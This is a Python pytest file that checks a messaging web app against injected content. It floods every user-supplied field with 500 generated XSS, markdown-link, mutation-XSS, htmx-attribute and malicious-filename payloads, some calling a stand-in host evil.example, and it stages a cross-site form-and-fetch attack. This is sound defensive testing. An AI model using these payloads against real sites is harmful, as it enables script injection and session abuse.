# ruff: noqa: E501
"""What strangers write does nothing: five hundred payloads made from patterns, in every field that comes from others."""

import itertools
import re
from html.parser import HTMLParser

import pytest
from stage import browser, watched

from implicast.casting.notifier import Notification
from implicast.language.rules import Rule
from implicast.peer.contract import CastId
from implicast.web.drafts import plain_name
from implicast.web.letter import MARK, File, Letter, packed, unpacked
from implicast.web.letters import cast_text
from implicast.web.markdown import rendered

DO = ["alert(1)", "window.ran=1", "fetch('http://evil.example')", "document.title='ran'"]
SCRIPT = [
    "<script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT>",
    "</textarea><script>{do}</script>",
    "</title><script>{do}</script>",
    "--><script>{do}</script>",
    "]]><script>{do}</script>",
    "<script src=http://evil.example/x.js></script>{do}",
    "<svg/onload={do}>",
    "<svg><script>{do}</script></svg>",
    "<img src=x onerror={do}>",
    '<img src=x onerror="{do}">',
    '"><img src=x onerror={do}>',
    "'><img src=x onerror={do}>",
    "<body onload={do}>",
    "<iframe src=javascript:{do}>",
    "<iframe srcdoc='<script>{do}</script>'>",
    "<details open ontoggle={do}>",
    "<input autofocus onfocus={do}>",
    "<a href=javascript:{do}>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={do}>",
    '<noscript><p title="</noscript><img src=x onerror={do}>">',
    "<object data=javascript:{do}>",
    "<embed src=javascript:{do}>",
    "<form action=http://evil.example><button>{do}</button></form>",
    "<base href=http://evil.example>{do}",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>{do}",
    "<link rel=stylesheet href=http://evil.example>{do}",
    "<style>@import 'http://evil.example'</style>{do}",
    "<div hx-get=/blocks/add hx-trigger=load>{do}</div>",
    "<div hx-on:load={do}></div>",
    "<div data-hx-post=/write/new data-hx-trigger=load>{do}</div>",
    "{{{{ {do} }}}}",
    "{{% raw %}}{do}",
    "${{{do}}}",
    "\u2028<script>{do}</script>",
    "\x00<script>{do}</script>",
    '" autofocus onfocus="{do}',
    "' onmouseover='{do}",
    "` onmouseover=`{do}",
    '" hx-on:click="{do}',
]
MARKDOWN = [
    "[x](javascript:{do})",
    "[x](JaVaScRiPt:{do})",
    "[x](java\tscript:{do})",
    "[x](&#106;avascript:{do})",
    "<javascript:{do}>",
    "[x](data:text/html,<script>{do}</script>)",
    "[x](vbscript:{do})",
    "![x](http://evil.example/x.png){do}",
    '![x](x" onerror="{do})',
    '[x](http://a" onclick="{do})',
    "[x]: javascript:{do}\n\n[x]",
    "[x](file:///etc/passwd){do}",
    "[x](//evil.example){do}",
    "[x](\\javascript:{do})",
    "`<script>{do}</script>`",
    '```"><script>{do}</script>\n```',
    "<a href='javascript:{do}'>",
    "# <script>{do}</script>",
    "| <script>{do}</script> |\n|---|\n| a |",
    "> <img src=x onerror={do}>",
    "[<img src=x onerror={do}>](http://a.example)",
    "[x](<javascript:{do}>)",
    "[x](javascript&colon;{do})",
    "[x](\x01javascript:{do})",
]
NAMES = [
    "../../etc/{do}",
    "..\\..\\{do}.html",
    "<script>{do}</script>.png",
    '"; filename="{do}.html',
    "a\r\nset-cookie: x={do}",
    "x.html\x00{do}.png",
    "\u202egnp.{do}.exe",
    ".htaccess{do}",
    "con{do}",
    "%2e%2e%2f{do}",
]
PAYLOADS = [pattern.format(do=do) for pattern in SCRIPT + MARKDOWN + NAMES for do in DO]
PAYLOADS += [
    f"{one}{other}"
    for (one, other), _ in zip(itertools.pairwise(PAYLOADS), range(220), strict=False)
]
PAYLOADS = list(dict.fromkeys(PAYLOADS))[:500]


class Reader(HTMLParser):
    """Reads a page as a browser would, and notes what it must not hold."""

    def __init__(self, own: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.own, self.wrong = own, []

    def handle_starttag(self, tag, attributes):
        if tag in ("iframe", "object", "embed", "base", "style", "math", "img", "audio", "video"):
            self.wrong.append(f"<{tag}>")
        for name, value in attributes:
            if name.startswith(("on", "hx-on", "data-hx", "style")) or name == "srcdoc":
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "formaction", "xlink:href") or name.startswith(
                "hx-get"
            ):
                self._address(tag, name, (value or "").strip())
            if name == "http-equiv":
                self.wrong.append(f"meta {value}")
        if tag == "script" and not dict(attributes).get("src", "").startswith("/static/"):
            self.wrong.append("a script of its own")

    def _address(self, tag, name, value):
        outward = re.match(r"(?i)(https?|mailto):", value)
        if (
            not (value.startswith("/") and not value.startswith("//"))
            and value != "#content"
            and not (tag == "a" and name == "href" and outward)
        ):
            self.wrong.append(f"{tag} {name}={value}")


def read(text):
    reader = Reader(set())
    reader.feed(text)
    reader.close()
    return reader.wrong


@pytest.fixture(scope="module")
def flooded(stage):
    """A desk to which somebody has sent all payloads in all fields."""
    desk = stage.desk("bob")

    def flood():
        for number, payload in enumerate(PAYLOADS):
            cut = payload[:256]
            letter = Letter(
                f"u{number}",
                cut,
                cut,
                cut,
                payload * 2,
                f"t{number // 25}",
                says=(cut,),
                files=(File(plain_name(cut) if number % 2 else cut, payload.encode()),),
            )
            again = unpacked(packed(letter))
            assert again == letter
            assert desk.letters.take(CastId(bytes([number % 7]) * 16, 1, number), again, 1 + number)
            desk.thesaurus.hear(
                CastId(number.to_bytes(16, "big"), 1, 1), [Rule(cut, "RT", f"a{number}")]
            )
            desk.blocks.add("words", f"zz{cut}", 1)
            desk.node.driver.observer(
                True, ("127.0.0.1", 9), Notification(CastId(bytes([number % 7]) * 16, 1, number))
            )

    stage.do(flood)
    return stage


def test_there_are_five_hundred_of_them():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 500


def test_the_reader_sees_what_it_looks_for():
    """The check can fail: shown raw, nearly every payload of HTML is found."""
    seen = [payload for payload in PAYLOADS[: len(SCRIPT) * 4] if read(payload)]
    assert len(seen) > 100


def test_markdown_of_strangers_is_text():
    for payload in PAYLOADS:
        assert not read(str(rendered(payload))), payload


def test_no_page_holds_anything_of_theirs_but_text(flooded):
    client = flooded.client("bob")
    paths = [f"/inbox?page={number}" for number in range(10)]
    paths += [f"/thread/t{number}" for number in range(20)]
    paths += [
        "/rooms",
        "/rules",
        "/blocks",
        "/me",
        "/write",
        "/sent",
        "/network",
        "/search?q=script",
    ]
    for path in paths:
        answer = client.get(path)
        assert answer.status_code == 200, path
        assert not read(answer.text), path
    assert "/thread/t19" in client.get("/network").text, "what passed last is listed"


def test_what_is_typed_or_asked_comes_back_as_text(flooded):
    client = flooded.client("bob")
    for payload in PAYLOADS[::10]:
        for path in ("/search", "/write", "/write/check", "/room", "/inbox"):
            names = {
                "/search": "q",
                "/write": "target",
                "/write/check": "target",
                "/room": "target",
                "/inbox": "folder",
            }
            answer = client.get(path, params={names[path]: payload, "said": payload})
            assert answer.status_code in (200, 400), (path, payload)
            assert not read(answer.text), (path, payload)


def test_files_of_strangers_are_saved_not_opened(flooded):
    client = flooded.client("bob")
    for number in range(1, 500, 7):
        answer = client.get(f"/letter/{number}/file/0")
        assert answer.status_code == 200
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
        assert not re.search(
            r"[\r\n\"<>/\\]", answer.headers["content-disposition"].partition("''")[2]
        )
        assert "sandbox" in answer.headers["content-security-policy"]
        assert "set-cookie" not in answer.headers


def test_what_is_no_letter_is_plain_text():
    for payload in (
        b"",
        b"\xff\xfe",
        MARK,
        MARK + b"\xc1",
        MARK + b"\x80",
        MARK + packed(Letter("u", "t"))[len(MARK) : -3],
    ):
        assert unpacked(payload) is None
    assert cast_text(CastId(b"\0" * 16, 1, 2)).endswith(".1.2")


@pytest.mark.long
def test_nothing_runs_in_a_browser(flooded):
    base = flooded.base("bob")
    with browser() as context:
        page, faults = watched(context)
        page.goto(flooded.address("bob"))
        for path in [f"/thread/t{number}" for number in range(20)] + [
            "/inbox",
            "/inbox?page=9",
            "/rules",
            "/blocks",
            "/rooms",
            "/write",
        ]:
            page.goto(base + path)
            page.wait_for_timeout(50)
            assert page.evaluate("[window.ran, document.title.includes('Implicast')]") == [
                None,
                True,
            ], path
        for payload in PAYLOADS[::9]:
            page.goto(f"{base}/write")
            page.fill("#target", payload)
            page.click("text=Begin a letter")
            page.fill("#body", payload)
            page.wait_for_timeout(30)
            assert page.evaluate("window.ran") is None
        assert not [each for each in faults if "400" not in each], faults


@pytest.mark.long
def test_another_site_cannot_make_the_browser_change_anything(flooded):
    """A page of another origin posts a form and fetches, with a browser that holds the cookie."""
    base = flooded.base("bob")
    before = len(flooded.do(flooded.desk("bob").drafts.all))
    with browser() as context:
        page = context.new_page()
        page.goto(flooded.address("bob"))
        other = flooded.base("ann")
        evil = f"""<form id=f method=post action="{base}/write/new"><input name=target value=evil></form>
                   <script>fetch("{base}/write/new", {{method: "POST", mode: "no-cors", credentials: "include",
                   body: new URLSearchParams({{target: "evil"}})}}).finally(() => f.submit())</script>"""
        context.route(
            "http://127.0.0.1:9/**",
            lambda route: route.fulfill(body=evil, content_type="text/html"),
        )
        for origin in ("http://127.0.0.1:9/", "http://localhost:9/"):
            context.route(
                f"{origin}**", lambda route: route.fulfill(body=evil, content_type="text/html")
            )
            page.goto(origin)
            page.wait_for_timeout(600)
            assert "this page only" in page.content() or "token" in page.content()
        assert other != base
    assert len(flooded.do(flooded.desk("bob").drafts.all)) == before
